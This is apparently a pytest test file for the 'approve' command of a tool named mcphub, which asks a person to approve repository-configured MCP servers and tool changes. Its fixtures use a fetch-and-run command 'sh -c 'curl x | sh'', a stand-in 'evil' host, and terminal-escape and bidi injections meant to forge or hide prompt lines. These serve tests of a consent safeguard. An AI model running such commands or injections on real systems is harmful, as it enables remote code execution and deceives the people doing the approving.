"""The verb approve."""

from __future__ import annotations

import json

import pytest
from anyio.from_thread import BlockingPortal

from mcphub.cli.commands.approve import question
from mcphub.status import ToolChange
from tests.cli.conftest import Place
from tests.fakes.canned_hub import EVIL, CannedHub, waiting

ASKED = b"Let it run as you? [y/N] "


def test_without_a_name_it_lists(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """What waits, what it would run, and how to go on."""
    assert place.run("approve") == ("this directory asks for no servers\n", "", 0)
    hub.items = [waiting("x"), waiting("old", "approved", command=["a\x1b"])]
    assert place.run("approve") == (
        "NAME  STATE     WOULD RUN\n"
        "x     waiting   sh -c 'curl x | sh'\n"
        "old   approved  'a\\x1b'\n"
        "\n"
        "`mcphub approve NAME` shows the whole of one and asks; `mcphub approve --all` asks about each.\n",
        "",
        0,
    )
    assert json.loads(place.run("approve", "--json")[0]) == {"items": hub.items}


def test_what_cannot_be_used_yet(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """It is listed with what is missing, and asked about by nobody."""
    hub.items = [waiting("d", "broken", problem="missing variable NOTSET", digest="")]
    out, err, status = place.run("approve")
    assert (out.splitlines()[1:], err, status) == (
        ["d     broken  sh -c 'curl x | sh'", "d cannot be approved yet: missing variable NOTSET"], "", 0,
    )  # fmt: skip
    text = "mcphub: cannot approve d before this is mended: missing variable NOTSET\n"
    assert place.run("approve", "d") == ("", text, 1)
    out, err, status = place.run("approve", "--all")
    assert "d cannot be approved yet: missing variable NOTSET" in err
    assert hub.asked == []


def test_a_person_sees_all_of_it_and_says_yes(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """Command, directory, names of variables and the asking file; then what was shown is approved, by its digest."""
    hub.items = [waiting("x", "changed")]
    with place.terminal("approve", "x") as terminal:
        terminal.until(ASKED)
        terminal.type(b"y\n")
        seen, status = terminal.end()
    assert seen.decode() == (
        "x  (changed since it was approved)\n"
        "  asked for by  /w/.mcp.json:2  mcpServers.x\n"
        "  would run     sh -c 'curl x | sh'\n"
        "  in            /w\n"
        "  with          TOKEN, HOME\n"
        "Let it run as you? [y/N] y\n"
        "x is approved\n"
    )
    assert status == 0
    assert hub.asked == [("approve", place.workspace, "x", "digest-of-x")]


def test_what_variables_stand_for() -> None:
    """C133: beside each text of the file stands what it is."""
    really = {"command": ["/bin/sh", "-x"], "cwd": "/w/sub", "env_file": "/e", "helper": "/h"}
    text = question(
        waiting("x", command=["${PROG}", "-x"], cwd="${DIR}", env_file="${F}", helper="${H}", resolved=really)
    )
    assert "  would run     '${PROG}' -x\n  which is      /bin/sh -x\n  in            ${DIR}\n" in text
    assert "${DIR}\n  which is      /w/sub\n" in text
    assert "  and those in  ${F}\n  which is      /e\n" in text
    assert "  headers from  ${H}\n  which is      /h\n" in text
    text = question(waiting("x", command=["https://${H}/"], cwd="", resolved={"command": ["https://evil/"]}))
    assert "  would ask     https://${H}/\n  which is      https://evil/\n" in text


def test_what_turns_on_that_calls_are_made_again() -> None:
    """A person sees what a repository's entry wants believed, and each setting beside what runs."""
    arguments = ["t: key", "u\x1b: k"]
    text = question(
        waiting("x", trusts_annotations=True, idempotency_arguments=arguments, settings=['sharing: "shared"'])
    )
    assert "  believes      what its tools say of themselves (trustAnnotations)" in text
    assert "  calls again   t: key  is the argument" in text and "  calls again   u\\x1b: k  is" in text
    assert '  sets          sharing: "shared"\n' in text
    assert "believes" not in question(waiting("x")) and "sets " not in question(waiting("x"))


@pytest.mark.parametrize("answer", [b"\n", b"n\n", b"yy\n", b"yes please\n", b"\x04"])
def test_anything_but_yes_is_no(place: Place, hub: CannedHub, portal: BlockingPortal, answer: bytes) -> None:
    """An empty line, the end of input, or more than yes."""
    hub.items = [waiting("x")]
    with place.terminal("approve", "x") as terminal:
        terminal.until(ASKED)
        terminal.type(answer)
        seen, status = terminal.end()
    assert seen.endswith(b"mcphub: x is not approved\n")
    assert (status, hub.asked) == (1, [])


def test_ctrl_c_at_the_question_approves_nothing(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """And ends the round."""
    hub.items = [waiting("x"), waiting("y")]
    with place.terminal("approve", "--all") as terminal:
        terminal.until(ASKED)
        terminal.type(b"\x03")
        assert terminal.end()[1] == 130
    assert hub.asked == []


def test_what_was_typed_before_the_question_does_not_answer_it(
    place: Place, hub: CannedHub, portal: BlockingPortal
) -> None:
    """A pasted block of commands cannot say yes."""
    hub.items = [waiting("x")]
    with place.terminal("approve", "x") as terminal:
        terminal.type(b"y\ny\n")
        terminal.until(ASKED)
        terminal.type(b"n\n")
        assert terminal.end()[1] == 1
    assert hub.asked == []


def test_all_asks_about_each(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """One question a server; a rejected one is not brought up again."""
    hub.items = [waiting("x"), waiting("no", "rejected"), waiting("y", "changed"), waiting("old", "approved")]
    with place.terminal("approve", "--all") as terminal:
        terminal.until(ASKED)
        terminal.type(b"y\n")
        terminal.until(ASKED, times=2)
        terminal.type(b"n\n")
        seen, status = terminal.end()
    assert b"x is approved\ny  (changed" in seen
    assert status == 1
    assert hub.asked == [("approve", place.workspace, "x", "digest-of-x")]


def test_a_rejected_one_can_be_taken_up_by_name(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """Minds change; and it needs the same yes."""
    hub.items = [waiting("x", "rejected")]
    with place.terminal("approve", "x", "--json") as terminal:
        terminal.until(ASKED)
        terminal.type(b"YES\n")
        seen, status = terminal.end()
    decided = [{"name": "x", "workspace": place.workspace, "state": "approved"}]
    assert (json.loads(seen.partition(b"YES\n")[2]), status) == (decided, 0)


def test_without_a_terminal_nothing_is_approved(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """Piping yes into it is no way around; a name that nobody asks for, or that is approved, needs no question."""
    hub.items = [waiting("x"), waiting("old", "approved")]
    said = "mcphub: cannot approve x: there is no terminal to ask on. Run `mcphub approve` in a terminal\n"
    for arguments in (("approve", "x"), ("approve", "--all")):
        assert place.run(*arguments, stdin=b"y\ny\n") == ("", said, 1)
    assert place.run("approve", "old") == ("", "mcphub: old is approved already\n", 0)
    missing = "mcphub: cannot approve none: nothing here asks for a server of that name\n"
    assert place.run("approve", "none") == ("", missing, 1)
    hub.items = []
    assert place.run("approve", "--all") == ("", "mcphub: nothing waits for approval here\n", 0)
    assert hub.asked == []


def test_what_changed_while_being_asked_is_not_approved(
    place: Place, hub: CannedHub, portal: BlockingPortal
) -> None:
    """The digest that was shown is not the one that is there now."""
    hub.items = [waiting("x")]
    with place.terminal("approve", "x") as terminal:
        terminal.until(ASKED)
        hub.items = [waiting("x", digest="another")]
        terminal.type(b"y\n")
        seen, status = terminal.end()
    assert seen.endswith(b"mcphub: x changed since it was shown\n")
    assert (status, hub.asked) == (1, [])


def test_the_question_cannot_be_forged() -> None:
    """Nothing of a repository's file can hide, erase or add a line of it."""
    evil = "x\n  would run     ls\x1b[1A\u202e"
    shown = question(waiting(evil, command=[EVIL, evil], cwd=evil, env_names=[evil]))
    assert shown.count("\n") == 5
    assert all(char.isprintable() or char == "\n" for char in shown)
    assert "\u202e" not in shown


def test_all_that_it_would_have_is_shown() -> None:
    """C044, C182, C133: what it reads, takes over and fetches, and what is not as it was approved."""
    item = waiting(
        "x",
        "changed",
        env_file=".env",
        inherits=["*"],
        reads=["A", "secret:b"],
        unpinned=["pkg@latest"],
        in_repository=["./run.sh"],
        shell_text="./run.sh",
        diff=['-   "command": "echo",', '+   "command": "sh",', "  \x1b[8m"],
        warnings=["/w/.mcp.json can be written by everybody"],
    )
    assert question(item).split("\n")[4:] == [
        "  with          TOKEN, HOME",
        "  and those in  .env",
        "  takes over    all of the hub's environment",
        "  reads         A, secret:b",
        "  unpinned      pkg@latest  may be other code the next time, without asking",
        "  repository    ./run.sh  is code in here: it may do something else without asking",
        "  shell         runs a text, of which only plain commands were looked at: read all of it",
        "  warning       /w/.mcp.json can be written by everybody",
        "  changed:",
        '    -   "command": "echo",',
        '    +   "command": "sh",',
        "      \\x1b[8m",
        "Let it run as you? [y/N] ",
    ]
    remote = question(waiting("x", command=["https://h/"], cwd="", env_names=["X"], helper="bin/t", inherits=["B"]))
    assert remote.split("\n")[2:] == [
        "  would ask     https://h/",
        "  with headers  X",
        "  takes over    B",
        "  headers from  bin/t",
        "Let your agents use it? [y/N] ",
    ]


CHANGED = ToolChange(
    tool="now", grade="texts", change="changed in description", parts=["description"], withheld=True,
    diff=["- description: a", "+ description: a\x1b[8m hidden"],
)  # fmt: skip


def test_tools_are_shown_and_taken(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """C172: what each was and is, escaped; then what was shown is taken, by its digest."""
    hub.tool_changed, hub.gone = [CHANGED], ["old"]
    with place.terminal("approve", "--tools", "time") as terminal:
        terminal.until(b"[y/N] ")
        terminal.type(b"y\n")
        seen, status = terminal.end()
    assert seen.decode() == (
        "time: now  (changed in description)\n"
        "    - description: a\n"
        "    + description: a\\x1b[8m hidden\n"
        "time: gone: old\n"
        "Let your agents use them as they are now? [y/N] y\n"
        "the tools of time are approved\n"
    )
    assert status == 0
    assert hub.asked == [("approve-tools", place.workspace, "time", "digest-of-tools")]


def test_tools_that_cannot_be_taken(place: Place, hub: CannedHub, portal: BlockingPortal) -> None:
    """C172: not without a terminal, not without a name, and not where nothing has changed."""
    assert place.run("approve", "--tools", "time") == ("", "mcphub: the tools of time are as they were\n", 0)
    assert json.loads(place.run("approve", "--tools", "time", "--json")[0])["changes"] == []
    assert place.run("approve", "--tools")[2] == 2
    hub.pin_problem = "cannot use /s/pins/1.json: it is damaged"
    said = "there is no terminal to ask on. Run `mcphub approve` in a terminal\n"
    said = f"mcphub: cannot approve the tools of time: {said}"
    assert place.run("approve", "--tools", "time", stdin=b"y\n") == ("", said, 1)
    with place.terminal("approve", "--tools", "time") as terminal:
        terminal.until(b"[y/N] ")
        terminal.type(b"n\n")
        seen, status = terminal.end()
    assert seen.startswith(b"time: cannot use /s/pins/1.json: it is damaged\n  it has 2 tools now\n")
    assert (status, hub.asked) == (1, [])


def test_it_is_known_before_asking_that_nothing_could_be_kept(
    place: Place, hub: CannedHub, portal: BlockingPortal
) -> None:
    """C131: nobody reads a whole command for an answer that cannot be written down; lists are shown all the same."""
    hub.items = [waiting("x"), waiting("y")]
    hub.pin_problem = "cannot use /s/pins/1.json: it is damaged"
    hub.unwritable = "cannot write /s/file: Read-only file system"
    for words, what in (
        (["x"], "x"), (["--all"], "x, y"), (["--tools", "time"], "the tools of time"),
    ):  # fmt: skip
        with place.terminal("approve", *words) as terminal:
            seen, status = terminal.end()
        assert (seen.decode(), status) == (f"mcphub: cannot approve {what}: {hub.unwritable}\n", 1)
    assert place.run("approve")[2] == 0
    hub.items = []
    assert place.run("approve", "--all")[2] == 0
    assert hub.asked == []
